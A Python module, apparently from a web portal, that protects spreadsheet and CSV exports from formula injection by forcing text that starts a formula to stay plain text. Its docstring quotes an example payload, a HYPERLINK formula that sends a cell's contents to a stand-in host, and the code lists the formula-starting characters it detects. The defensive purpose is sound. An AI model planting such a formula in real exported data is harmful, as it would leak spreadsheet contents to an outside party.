"""Text written into a spreadsheet stays the text that was typed, never a formula (formula or "CSV" injection).

An evidence title such as `=HYPERLINK("http://x.example/?"&A1,"bấm")` must reach the staff's workbook as these
characters: openpyxl stores any string starting with "=" as a formula, Excel turns a cell starting with "+",
"-" or "@" into one as soon as it is edited, and opens a CSV field starting with any of them (or with a tab or
a carriage return, as OWASP lists) as a formula. Every exporter writes its rows through `text_row` (or a cell
through `text_cell`), so a deliberate formula of its own is written as a plain value beside them, not through
these helpers. Numbers are not text: a negative number stays a number.

A workbook is XML, which cannot hold most control characters: openpyxl refuses them (a download would fail on
a title with a pasted \x07), so they are written as "\N{REPLACEMENT CHARACTER}", as django-import-export does.
"""

from collections.abc import Iterable

from openpyxl.cell import Cell, WriteOnlyCell

from ntm_portal.text import xml_text

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def starts_formula(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def storable(value: object) -> object:
    """The value, its characters that XML cannot hold (if it is text) replaced."""
    return xml_text(value) if isinstance(value, str) else value


def text_cell(cell: Cell) -> Cell:
    """The cell, made a plain string cell that Excel shows as typed (quote prefix) when its text starts a formula.

    Call it after giving the cell a style: a named style replaces the whole style, the quote prefix with it.
    """
    if starts_formula(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def text_row(sheet, values: Iterable) -> list:
    """Values for `sheet.append`, a text that starts a formula as a string cell; works for write-only sheets too."""
    row = [storable(value) for value in values]
    return [text_cell(WriteOnlyCell(sheet, value)) if starts_formula(value) else value for value in row]


def csv_text(value: object) -> object:
    """A CSV field: a text that starts a formula gets a leading apostrophe, which Excel reads as "this is text"."""
    return f"'{value}" if starts_formula(value) else value
